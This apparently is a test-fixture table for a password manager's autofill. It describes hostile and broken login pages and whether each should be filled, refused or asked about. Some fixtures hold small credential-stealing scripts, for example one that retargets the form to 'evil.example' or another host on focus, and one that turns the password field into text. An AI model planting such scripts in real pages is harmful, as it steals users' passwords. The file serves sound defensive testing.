/** Hostile or broken pages with an ordinary login form: what their script or their user does with it. */
import { form, shortForm, twoSteps, login, userAndPassword, withTokens, type Table } from "../templates.ts";

const firstStep = {
  kind: "user-name",
  fills: { "#user": "login" },
  alive: "The page renders its second step.",
} as const;

const withOtherUser = [
  'User <input id="user" name="user" value="bob">',
  'Password <input id="pass" name="pass" type="password">',
];

export const table: Table = {
  "almost-transparent": {
    shape: "Decoy with an opacity of one percent",
    met: "A honeypot has an opacity of 0.01, against programs that look only for 0.",
    ...login,
    markup: shortForm(userAndPassword, {
      above:
        '<div style="opacity: 0.01"><label>User <input name="username"></label><label>Password <input type="password" name="password"></label></div>',
    }),
  },
  "another-address-meanwhile": {
    shape: "Page that rewrites its address within the site",
    met: "Single-page applications replace their history entry at any time. The document stays the same, and the path changes.",
    meanwhile: { push: "/hostile/another-path" },
    ...login,
    markup: shortForm(withTokens),
  },
  "another-page-while-asked": {
    shape: "Page that goes to another page of the site while the question is shown",
    met: "The page of the question has been replaced by another page of the site. The new page gives no reason to ask and is filled.",
    asks: ["other-login"],
    whileAsked: { go: "/frames/login.frame" },
    inFirefox: { refuses: "left-site" },
    ...login,
    markup: shortForm(withOtherUser),
  },
  "another-site-meanwhile": {
    shape: "Page that goes to another site while the popup is open",
    met: "The popup was opened over one site. After a timed redirect, the tab shows another site when the user presses the button.",
    meanwhile: { go: "//other.localhost:%port%/frames/login.frame" },
    refuses: "left-site",
    markup: shortForm(withTokens),
  },
  "another-site-while-asked": {
    shape: "Page that goes to another site while the question is shown",
    met: "The page goes to another site before the user answers the question. Nothing is filled on the other site.",
    asks: ["other-login"],
    whileAsked: { go: "//other.localhost:%port%/frames/login.frame" },
    refuses: "left-site",
    markup: shortForm(withOtherUser),
  },
  "another-user-greeted": {
    shape: "Two steps, the second greets another user",
    met: "A page of another user on the same host looks like the second step. Only its greeting shows that it belongs to another user.",
    ...firstStep,
    next: { click: "#next", alone: true, fills: { "#pass": "=" } },
    markup: twoSteps(
      '<h1>Signed in as mallory</h1><label>Password <input id="pass" type="password" autocomplete="current-password"></label><button>Continue</button>',
    ),
  },
  "another-user-in-host": {
    shape: "Two steps, the second shows another user whose name is a part of the host name",
    met: "A page of another user on the same host looks like the second step. Its greeting names that user: exam, a part of the host name.",
    ...firstStep,
    next: { click: "#next", alone: true, fills: { "#pass": "=" } },
    markup: twoSteps(
      '<h1>Signed in as exam</h1><label>Password <input id="pass" type="password" autocomplete="current-password"></label><button>Continue</button>',
    ),
  },
  "another-user-like-host": {
    shape: "Two steps, the second shows another user whose name is a word of the host name",
    met: "A page of another user on the same host looks like the second step. Its greeting names that user: example, a word of the host name.",
    ...firstStep,
    next: { click: "#next", alone: true, fills: { "#pass": "=" } },
    markup: twoSteps(
      '<h1>Signed in as example</h1><label>Password <input id="pass" type="password" autocomplete="current-password"></label><button>Continue</button>',
    ),
  },
  "button-added-meanwhile": {
    shape: "Button to another site that is added when the username field gets the focus",
    met: "All buttons are harmless when the form is examined. A script adds another button when the username field gets the focus.",
    refuses: "changed",
    fills: { "#user": "=", "#pass": "=" },
    alive: "The page adds a button.",
    markup: shortForm(userAndPassword, {
      script: `user.addEventListener("focus", () => {
  const button = document.createElement("button");
  button.setAttribute("formaction", "//other.localhost:%port%/sent");
  document.querySelector("form").prepend(button);
});`,
    }),
  },
  "dialog-form-elsewhere": {
    shape: "Dialog form whose button sends it to another site",
    met: "Injected markup uses a form with the method dialog. The form is not sent, unless the formmethod of a button is post.",
    asks: ["foreign-action"],
    ...login,
    markup: shortForm(userAndPassword, {
      formTag: '<form method="dialog" action="//other.localhost:%port%/sent">',
      button: '<button formmethod="post">Sign in</button>',
    }),
  },
  "directory-of-another-user": {
    shape: "Two steps, the second in the directory of another user",
    met: "A host has a directory for each user. A page in another user's directory has a password field, and its script can read the value.",
    ...firstStep,
    next: { click: "#next", alone: true, fills: { "#pass": "=" } },
    markup: twoSteps(
      '<label>Password <input id="pass" type="password" autocomplete="current-password"></label><button>Win a prize</button>',
      {},
      "/~mallory/prize",
    ),
  },
  "emptied-in-next-frame": {
    shape: "Password field that is emptied in the next frame",
    met: "A page keeps the value for a moment and empties the field when the next frame is drawn.",
    refuses: "emptied",
    fills: { "#user": "login", "#pass": "=" },
    markup: form(
      [
        'User name <input id="user" name="user" autocomplete="username">',
        'Password <input id="pass" type="password" name="password" autocomplete="current-password">',
      ],
      {
        title: "Sign in",
        button: "Sign in",
        script: 'pass.onchange = () => { requestAnimationFrame(() => { pass.value = ""; }); };',
      },
    ),
  },
  "foreign-form-meanwhile": {
    shape: "Form whose target becomes another site when the username field gets the focus",
    met: "The action is harmless when the form is examined. A script changes it when the username field gets the focus.",
    refuses: "changed",
    fills: { "#user": "=", "#pass": "=" },
    alive: "The page changes its form.",
    markup: shortForm(userAndPassword, {
      script:
        "user.addEventListener('focus', () => { document.querySelector('form').action = '//other.localhost:%port%/sent'; });",
    }),
  },
  "form-turns-while-asked": {
    shape: "Form whose target becomes another site while the question is shown",
    met: "The popup asks because the form contains another username. Meanwhile the form gets another target, so the popup asks again.",
    asks: ["other-login"],
    whileAsked: { turn: "//other.localhost:%port%/sent" },
    asksAgain: ["foreign-action", "other-login"],
    kind: "login",
    fills: { "#user": "=bob", "#pass": "password" },
    untouched: ["#user"],
    markup: shortForm(withOtherUser),
  },
  "frame-of-frames-own-form": {
    shape: "Site with a frame of another site, which frames the first site again",
    met: "The page has its own login, which is filled. The login that the other site shows in a frame is not filled.",
    ...login,
    markup: shortForm(withTokens, {
      above: '<iframe src="//other.localhost:%port%/frames/sandwich.frame" width="500" height="300"></iframe>',
    }),
  },
  "frozen-realm": {
    shape: "Frozen intrinsics",
    met: "Pages freeze their prototypes to protect them from injected scripts.",
    ...login,
    markup: shortForm(userAndPassword, {
      script:
        "for (const object of [Object, Array, Function, Promise, HTMLInputElement, HTMLElement, Element, Node, Event, Document]) Object.freeze(object.prototype);",
    }),
  },
  "hides-field-meanwhile": {
    shape: "Password field that is hidden when the username field gets the focus",
    met: "A script hides the password field when the username field gets the focus. Fields that the user cannot see are not filled.",
    refuses: "changed",
    fills: { "#user": "login", "#pass": "=" },
    alive: "The page changes its field.",
    markup: shortForm(userAndPassword, {
      script: "user.addEventListener('focus', () => { pass.style.display = 'none'; });",
    }),
  },
  "lies-about-type": {
    shape: "Text field with an overridden type",
    met: "A script overrides the property type of a text field. Only scripts of the page itself see the false value.",
    refuses: "not-a-password",
    markup: shortForm(['User <input id="user" name="user">', 'Password <input id="entry" name="entry" type="text">'], {
      script: 'Object.defineProperty(entry, "type", { value: "password" });',
    }),
  },
  "list-changes-target": {
    shape: "List of usernames whose choice changes the form's target",
    met: "No real page is known: the form gets another target when something is chosen from its list.",
    refuses: "changed",
    chosen: ["#user"],
    fills: { "#user": "login", "#pass": "=" },
    alive: "The page changes its form.",
    markup: form(
      [
        'User <select id="user" name="user"><option>bob@example.org<option>ada@example.org</select>',
        'Password <input id="pass" type="password" name="password">',
      ],
      {
        title: "Who is it?",
        button: "Sign in",
        script:
          '  document.querySelector("#user").onchange = () => { document.forms[0].action = "https://evil.example/"; };',
      },
    ),
  },
  "loses-encryption-while-asked": {
    shape: "Form whose target changes from https to http while the question is shown",
    met: "The popup asks about an encrypted target. The target without encryption is another one, so a yes to the first does not count.",
    asks: ["foreign-action"],
    whileAsked: { turn: "http://plain.test/sent" },
    asksAgain: ["unencrypted-action", "foreign-action"],
    declined: true,
    markup: shortForm(userAndPassword, { formTag: '<form method="post" action="https://plain.test/sent">' }),
  },
  "removes-field-meanwhile": {
    shape: "Password field that is replaced when the username is filled",
    met: "A script replaces the password field by a copy while the form is being filled.",
    refuses: "changed",
    fills: { "#user": "login", "#pass": "=" },
    alive: "The page changes its field.",
    markup: shortForm(userAndPassword, {
      script: "user.addEventListener('input', () => { pass.replaceWith(pass.cloneNode()); });",
    }),
  },
  "throwing-listeners": {
    shape: "Listeners that throw at every event",
    met: "Broken analytics scripts throw an error at every event, and nothing catches it.",
    ...login,
    markup: shortForm(userAndPassword, {
      script:
        "for (const type of ['focus', 'keydown', 'input', 'keyup', 'change', 'blur', 'beforeinput']) addEventListener(type, (event) => { throw new Error('broken'); }, true);",
    }),
  },
  "turns-to-text-meanwhile": {
    shape: "Password field that turns into text when the username field gets the focus",
    met: "A script turns the password field into a text field as soon as the username field gets the focus, so that others can read it.",
    refuses: "not-a-password",
    fills: { "#user": "login", "#pass": "=" },
    alive: "The page changes its field.",
    markup: shortForm(userAndPassword, { script: "user.addEventListener('focus', () => { pass.type = 'text'; });" }),
  },
};
